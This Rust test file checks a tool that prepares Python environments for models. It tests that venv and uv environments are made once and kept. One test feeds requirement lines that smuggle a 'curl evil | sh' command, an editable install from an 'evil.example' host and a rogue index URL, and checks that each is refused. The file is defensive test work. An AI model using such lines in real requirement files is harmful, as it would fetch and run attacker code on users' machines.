//! Interpreters for models in Python: made once by the tools themselves, and by nothing that a model says.

use std::path::{Path, PathBuf};
use std::process::Command;

use mls::model::score::python::Error;
use mls::model::score::python::environment::{Choice, Wanted, prepare};

use crate::proof::tell;

fn wanted(folder: &Path, choice: Choice, requirements: &str) -> Wanted {
    Wanted {
        choice,
        python: "python3".into(),
        uv: uv(),
        cache: folder.join("cache"),
        requirements: Some(requirements.to_owned()),
    }
}

fn uv() -> Option<PathBuf> {
    let paths = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&paths).map(|path| path.join("uv")).find(|path| path.is_file())
}

fn is_made_once(choice: Choice) {
    let folder = tempfile::tempdir().unwrap();
    let wanted = wanted(folder.path(), choice, "# nothing beside the interpreter\n");
    let first = match prepare(&wanted, &|_| {}) {
        Ok(first) => first,
        Err(Error::NoPython(name)) => return tell(&format!("skipped: no `{name}`")),
        // Debian has parts of venv in a package of its own.
        Err(Error::Install { said, .. }) if said.contains("ensurepip") => {
            return tell("skipped: this Python has no `ensurepip`");
        }
        Err(error) => panic!("{error}"),
    };
    assert!(first.made && first.python.starts_with(folder.path()), "{first:?}");
    let told = Command::new(&first.python)
        .args(["-c", "import sys; print(sys.prefix != sys.base_prefix)"])
        .output()
        .unwrap();
    assert_eq!(told.stdout, b"True\n");
    let again = prepare(&wanted, &|_| {}).unwrap();
    assert!(!again.made && again.python == first.python);
    // Half an environment is made anew.
    let own = first.python.ancestors().nth(3).unwrap();
    std::fs::remove_file(own.join("ready")).unwrap();
    std::fs::remove_file(&first.python).unwrap();
    assert!(prepare(&wanted, &|_| {}).unwrap().made);
}

#[test]
fn an_environment_is_made_by_venv_and_kept() {
    is_made_once(Choice::Venv);
}

#[test]
fn an_environment_is_made_by_uv_and_kept() {
    match uv() {
        Some(_) => is_made_once(Choice::Uv),
        None => tell("skipped: no `uv`"),
    }
}

#[test]
fn m04_what_is_no_plain_requirement_starts_no_tool() {
    let folder = tempfile::tempdir().unwrap();
    for line in ["six; curl evil | sh", "-e git+https://evil.example/x", "--index-url http://evil"]
    {
        let wanted = Wanted {
            // It would fail in another way if it were started.
            python: "/nonexistent/python".into(),
            ..wanted(folder.path(), Choice::Venv, &format!("six==1.17.0\n{line}\n"))
        };
        let refused = prepare(&wanted, &|_| {}).unwrap_err();
        assert!(matches!(refused, Error::Requirement { line: 2, .. }), "{line}: {refused}");
    }
    assert!(!folder.path().join("cache").exists());
}
